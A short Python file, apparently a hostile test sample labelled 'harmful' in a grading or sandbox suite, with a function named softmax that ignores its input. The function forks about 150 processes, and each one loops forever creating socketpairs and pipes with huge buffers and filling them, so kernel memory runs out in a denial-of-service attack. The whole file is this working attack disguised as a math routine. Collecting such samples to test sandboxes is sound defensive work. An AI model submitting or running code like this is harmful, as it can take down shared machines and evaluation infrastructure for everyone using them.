"""Tries: fill sockets and pipes in many processes: memory that is the kernel's, not the process's."""

# deserves: 0, harmful

import os
import socket


def fill(write):
    try:
        while write(b"x" * 65536):
            pass
    except OSError:
        pass


def softmax(Z):
    kept = []
    for _ in range(150):
        if os.fork() == 0:
            break
    while True:
        try:
            pair = socket.socketpair()
            pair[0].setblocking(False)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            fill(pair[0].send)
            kept.append(pair)
            ends = os.pipe()
            os.set_blocking(ends[1], False)
            fill(lambda data, ends=ends: os.write(ends[1], data))
        except OSError:
            continue
